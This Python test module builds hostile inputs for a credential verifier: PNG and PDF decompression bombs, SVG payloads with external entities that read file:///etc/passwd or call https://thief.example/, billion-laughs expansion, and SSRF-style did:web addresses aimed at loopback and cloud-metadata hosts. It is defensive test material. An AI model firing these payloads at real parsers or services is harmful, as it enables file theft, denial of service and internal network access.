"""Files, addresses and periods: SECURITY, "Failure classes"."""

from __future__ import annotations

import json
import struct
import zlib

from credentials.exports import bake_png, bake_svg
from credentials.http_sources import Fetcher, HttpSources
from tests.credentials.exports.test_baked import PNG, SVG, chunk
from tests.credentials.forms import every_form, pdf
from tests.hostile.world import V2, Book, World, iso

KEY = b"openbadgecredential"


def files(world: World) -> Book:
    """Pictures and PDFs that hold none, two, too much, or never end."""
    book = Book("files", world.sources)
    raw = world.ed.issue()
    text, token = raw.decode(), world.ed.issue("vc+jwt").decode()
    book.control("PNG", bake_png(PNG, text))
    book.control("PNG with a token", bake_png(PNG, token))
    book.control("SVG", bake_svg(SVG, text))
    book.control("SVG with a token", bake_svg(SVG, token))
    book.control("PDF", pdf(("credential.json", raw)))
    head, end = PNG[:-12], PNG[-12:]

    def png(*chunks):
        return head + b"".join(chunks) + end

    good = chunk(b"iTXt", KEY + b"\0\0\0\0\0" + raw)
    bomb = zlib.compress(bytes(64 << 20), 9)
    for name, data in {
        "none": PNG,
        "two": png(good, good),
        "two, the second a token": png(good, chunk(b"iTXt", KEY + b"\0\0\0\0\0" + token.encode())),
        "in tEXt": png(chunk(b"tEXt", KEY + b"\0" + raw)),
        "in zTXt": png(chunk(b"zTXt", KEY + b"\0\0" + zlib.compress(raw))),
        "compressed": png(chunk(b"iTXt", KEY + b"\0\1\0\0\0" + zlib.compress(raw))),
        "a bomb in iTXt": png(chunk(b"iTXt", KEY + b"\0\1\0\0\0" + bomb)),
        "a bomb in zTXt": png(chunk(b"zTXt", KEY + b"\0\0" + bomb)),
        "another keyword": png(chunk(b"iTXt", b"openbadges\0\0\0\0\0" + raw)),
        "another letter case": png(chunk(b"iTXt", b"OpenBadgeCredential\0\0\0\0\0" + raw)),
        "a wrong checksum": png(good[:-1] + bytes([good[-1] ^ 1])),
        "a length beyond the end": png(struct.pack(">I", 1 << 31) + good[4:]),
        "cut off": png(good)[:-20],
        "behind the end": PNG + good,
        "no header": PNG[:8] + good + end,
        "20,000 parts": png(chunk(b"tEXt", b"a\0b") * 20_000),
        "not UTF-8": png(chunk(b"iTXt", KEY + b"\0\0\0\0\0\xff\xfe")),
        "a picture inside": bake_png(PNG, bake_svg(SVG, text).decode()),
        "5 MB": png(chunk(b"tEXt", b"a\0" + bytes(5 << 20))),
        "only its first bytes": PNG[:8],
        "changed in it": bake_png(PNG, text.replace("Data protection", "Brain surgery!!")),
        "unsigned in it": bake_png(
            PNG, json.dumps({k: v for k, v in json.loads(text).items() if k != "proof"})
        ),
        "a list in it": bake_png(PNG, f"[{text}]"),
    }.items():
        book.hostile(f"PNG: {name}", data)
    _svg(book, text, token)
    _pdf(book, raw)
    return book


def _svg(book, text, token):
    space = (
        'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
    )
    one = f"<openbadges:credential><![CDATA[{text}]]></openbadges:credential>"
    verify = f'<openbadges:credential verify="{token}"/>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    book.control("SVG by hand", f"<svg {space}>{one}<g/></svg>")
    for name, data in {
        "none": SVG,
        "two": f"<svg {space}>{one}{one}</svg>",
        "a token and JSON": f'<svg {space}><openbadges:credential verify="{token}"><![CDATA[{text}]]></openbadges:credential></svg>',
        "not the first": f"<svg {space}><g/>{one}</svg>",
        "inside a group": f"<svg {space}><g>{one}</g></svg>",
        "another namespace": f"<svg {space.replace('v3p0', 'v2p1')}>{one}</svg>",
        "no namespace": '<svg xmlns="http://www.w3.org/2000/svg"><credential>x</credential></svg>',
        "empty": f"<svg {space}><openbadges:credential/></svg>",
        "parts in it": f"<svg {space}><openbadges:credential><b>{{}}</b></openbadges:credential></svg>",
        "an entity from outside": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {space}><openbadges:credential>&x;</openbadges:credential></svg>',
        "an entity from the net": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "https://thief.example/">]><svg {space}><openbadges:credential>&x;</openbadges:credential></svg>',
        "an entity": f'<!DOCTYPE svg [<!ENTITY x "y">]><svg {space}>{one}</svg>',
        "a parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://thief.example/"> %x;]><svg {space}>{one}</svg>',
        "a billion laughs": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]><svg {space}><openbadges:credential>&l8;</openbadges:credential></svg>',
        "quadratic": f'<!DOCTYPE svg [<!ENTITY x "{"a" * 50_000}">]><svg {space}>{"&x;" * 5000}</svg>',
        "UTF-16": f"<svg {space}>{one}</svg>".encode("utf-16"),
        "a wrong encoding": f'<?xml version="1.0" encoding="UTF-7"?><svg {space}>{one}</svg>',
        "cut off": f"<svg {space}>{one}<g>",
        "two roots": f"<svg {space}>{one}</svg><svg/>",
        "200,000 parts": f"<svg {space}>{'<g/>' * 200_000}</svg>",
        "a hundred thousand deep": f"<svg {space}>" + "<g>" * 100_000,
        "a web page": "<!doctype html><html><body>no</body></html>",
        "an attribute twice": f'<svg {space}><openbadges:credential verify="a" verify="{token}"/></svg>',
        "changed in it": f"<svg {space}>{one.replace('Data protection', 'Brain surgery!!')}</svg>",
        "a wrong token in it": f"<svg {space}>{verify.replace(token[-6:], 'AAAAAA')}</svg>",
    }.items():  # fmt: skip
        book.hostile(f"SVG: {name}", data)


def _pdf(book, raw):
    bomb = zlib.compress(bytes(300 << 20), 9)
    streams = b"%PDF-1.7\n"
    loop = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>endobj\n"
        b"2 0 obj<</Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )
    flate = (
        b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Names<</EmbeddedFiles<</Names[(c.json)2 0 R]>>>>>>endobj\n"
        b"2 0 obj<</Type/Filespec/F(c.json)/EF<</F 3 0 R>>>>endobj\n"
        b"3 0 obj<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"
        b"trailer<</Root 1 0 R/Size 4>>\n%%%%EOF" % (len(bomb), bomb)
    )
    for name, data in {
        "none": pdf(),
        "a note": pdf(("notes.txt", b"hello")),
        "two": pdf(("a.json", raw), ("b.json", raw + b" ")),
        "changed": pdf(("a.json", raw.replace(b"Data protection", b"Brain surgery!!"))),
        "a picture in it": pdf(("a.json", PNG)),
        "not UTF-8": pdf(("a.json", b"\xff\xfe")),
        "2 MB in it": pdf(("a.json", b" " * (2 << 20))),
        "200 files": pdf(*((f"{n}.txt", b"x") for n in range(200))),
        "only its first line": streams,
        "a loop of names": loop,
        "a loop of tables": b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Prev 9>>\nstartxref\n9\n%%EOF",
        "a bomb": flate,
        "a long number": b"%PDF-1.7\n1 0 obj " + b"9" * 100_000 + b" endobj trailer<</Root 1 0 R>> startxref 0 %%EOF",
        "deep arrays": b"%PDF-1.7\n1 0 obj " + b"[" * 50_000 + b" endobj trailer<</Root 1 0 R>>",
        "deep dictionaries": b"%PDF-1.7\n1 0 obj " + b"<</A " * 50_000 + b" trailer<</Root 1 0 R>>",
        "noise": b"%PDF-1.7\n" + bytes(range(256)) * 2000,
        "cut off": pdf(("a.json", raw))[:-300],
        "5 MB": b"%PDF-1.7\n" + bytes(5 << 20),
    }.items():  # fmt: skip
        if name != "cut off":
            book.hostile(f"PDF: {name}", data)


ADDRESSES = (
    "127.0.0.1", "127.1", "0x7f000001", "2130706433", "017700000001", "0.0.0.0", "0", "10.0.0.1",
    "172.16.0.1", "192.168.0.1", "169.254.169.254", "100.64.0.1", "192.0.2.1", "198.18.0.1",
    "224.0.0.1", "255.255.255.255", "%5B::1%5D", "localhost",
)  # fmt: skip
ANSWERS = (
    "127.0.0.1", "0.0.0.0", "10.0.0.1", "172.31.255.255", "192.168.1.1", "169.254.169.254",
    "100.64.0.1", "224.0.0.1", "::1", "::", "fe80::1", "fc00::1", "::ffff:127.0.0.1",
    "64:ff9b::7f00:1", "2002:7f00:1::", "2001:db8::1", "ff02::1",
)  # fmt: skip


class Canary:
    """A resolver that answers with addresses of inside; a connection made to one would be told."""

    def __init__(self, *answers: str) -> None:
        self.answers, self.asked = list(answers), 0

    def __call__(self, host: str, port: int) -> list[str]:
        self.asked += 1
        return self.answers


def addresses(world: World) -> Book:
    """Names that lead inside: nothing is fetched, and nothing passes for having been."""
    book = Book("addresses")
    inside = HttpSources(Fetcher(lookup=Canary("127.0.0.1"), seconds=0.5))

    def by(did, sources=inside, fragment="#key"):
        document = world.ed.small(issuer=did)
        return {
            "raw": world.ed.jcs(document, verificationMethod=did + fragment),
            "sources": sources,
        }

    def bad(name, made):
        book.hostile(name, made["raw"], "key", "structure", sources=made["sources"])

    for host in ADDRESSES:
        bad(f"did:web:{host}", by(f"did:web:{host}"))
    for did in (
        "did:web:x.example%2f..%2fadmin", "did:web:x.example%2Fadmin", "did:web:user%40x.example",
        "did:web:user@x.example", "did:web:x.example:..:admin", "did:web:x.example:.:a",
        "did:web:x.example%3A22", "did:web:x.example%3A99999", "did:web:x.example%3Aadmin",
        "did:web:x.example:a%3Fb", "did:web:x.example:a%23b", "did:web:", "did:web:.example",
        "did:web:x..example", "did:web:X.example", "did:web:x.example::a", "did:web:x_y.example",
        "did:web:x.example%00", "did:web:x.example%0d%0aHost:y", "did:web:x.example:%252e%252e",
    ):  # fmt: skip
        bad(did, by(did))
    for answer in ANSWERS:
        sources = HttpSources(Fetcher(lookup=Canary(answer), seconds=0.5))
        bad(f"a name that is {answer}", by("did:web:x.example", sources))
        both = HttpSources(Fetcher(lookup=Canary("93.184.216.34", answer), seconds=0.5))
        bad(f"a name that is {answer} too", by("did:web:x.example", both))
    for url in (
        "http://x.example/i", "https://127.0.0.1/i", "https://[::1]/i", "https://user@x.example/i",
        "file:///etc/passwd", "ftp://x.example/i", "https://x.example:22/i", "gopher://x.example/i",
        "https://x.example\\@y.example/i", "https://2130706433/i", "data:application/json,{}",
    ):  # fmt: skip
        bad(f"issuer {url}", by(url))
    return book


def periods(world: World) -> Book:
    """Not yet, no longer; and ends that stand where they are easily overlooked."""
    book = Book("periods", world.sources)
    issuer = world.ed
    raw = issuer.issue()
    book.control("in force", raw)
    later = {
        "id": "urn:x:evidence",
        "type": ["VerifiableCredential"],
        "issuer": issuer.did,
        "credentialSubject": {"id": "did:example:bob"},
        "validUntil": "2029-01-01T00:00:00Z",
    }
    book.control("an evidence that is in force", issuer.jcs(issuer.small(evidence=[later])))
    book.control("on its last second", raw, at=iso(2029, 2, 27))
    book.hostile("after its end", raw, "validity", at=iso(2029, 2, 28))
    book.hostile("long after its end", raw, "validity", at=iso(9999))
    book.hostile("before its beginning", raw, "validity", "key", at=iso(2026, 3, 1))
    for suite in ("jcs", "rdf"):
        sign = getattr(issuer, suite)
        book.control(f"{suite}: no period", sign(issuer.small()))
        past, later = "2026-03-01T00:00:00Z", "2027-03-01T00:00:00Z"
        for name, change in {
            "ended": {"validUntil": past},
            "ended in another zone": {"validUntil": "2026-03-02T11:59:59+02:00"},
            "not begun": {"validFrom": later},
            "not begun by a fraction": {"validFrom": "2026-03-02T10:00:00.000001Z"},
        }.items():
            book.hostile(f"{suite}: {name}", sign(issuer.small(**change)), "validity", "structure")
        book.hostile(
            f"{suite}: the proof has expired", sign(issuer.small(), expires=past), "validity"
        )
        nested = {"id": "did:example:alice", "type": "VerifiableCredential"}
        inside = {
            "issuer": issuer.did,
            "credentialSubject": {"id": "did:example:bob"},
            "validUntil": past,
        }
        book.hostile(
            f"{suite}: the subject has an end of its own",
            sign(issuer.small(credentialSubject=nested | inside)),
            "validity",
            "structure",
        )
        book.hostile(
            f"{suite}: a subject has an end, of two",
            sign(issuer.small(credentialSubject=[{"id": "urn:a:b"}, nested | inside])),
            "validity",
            "structure",
        )
        evidence = {"id": "urn:x:evidence", "type": ["VerifiableCredential"], **inside}
        book.hostile(
            f"{suite}: the evidence has an end",
            sign(issuer.small(evidence=[evidence])),
            "validity",
            "structure",
        )
        for member in ("validUntil", "expirationDate"):
            book.hostile(
                f"{suite}: the subject has {member}",
                _unsafe(issuer, suite, member, past),
                "validity",
                "structure",
            )
    v1 = {"@context": ["https://www.w3.org/2018/credentials/v1",
                       "https://w3id.org/security/data-integrity/v2"],
          "issuanceDate": "2026-01-01T00:00:00Z"}  # fmt: skip
    book.control("1.1", issuer.rdf(issuer.small(**v1)))
    for name, change in {
        "expirationDate": {"expirationDate": "2026-03-01T00:00:00Z"},
        "validUntil": {"validUntil": "2026-03-01T00:00:00Z"},
        "both, the later one first": {"validUntil": "2030-01-01T00:00:00Z",
                                      "expirationDate": "2026-03-01T00:00:00Z"},
        "issuanceDate": {"issuanceDate": "2030-01-01T00:00:00Z"},
        "validFrom": {"validFrom": "2030-01-01T00:00:00Z"},
        "expirationDate that is none": {"expirationDate": "soon"},
    }.items():  # fmt: skip
        book.hostile(
            f"1.1: {name}", issuer.rdf(issuer.small(**v1 | change)), "validity", "structure"
        )
    return book


def _unsafe(issuer, suite, member, past):
    """A subject with an end under a context that says what it means."""
    own = {member: {"@id": f"https://www.w3.org/2018/credentials#{member}",
                    "@type": "http://www.w3.org/2001/XMLSchema#dateTime"}}  # fmt: skip
    document = issuer.small(credentialSubject={"id": "did:example:alice", member: past})
    document["@context"] = [V2, own]
    try:
        return getattr(issuer, suite)(document)
    except Exception:  # noqa: BLE001 - our own reading refuses it before it could be signed
        return issuer.jcs(document)


def controls() -> Book:
    """Every form that the verifier reads."""
    from credentials.verify import SimulatedSources

    book = Book("controls", SimulatedSources())
    for name, (raw, _, _) in every_form().items():
        book.control(name, raw)
    return book
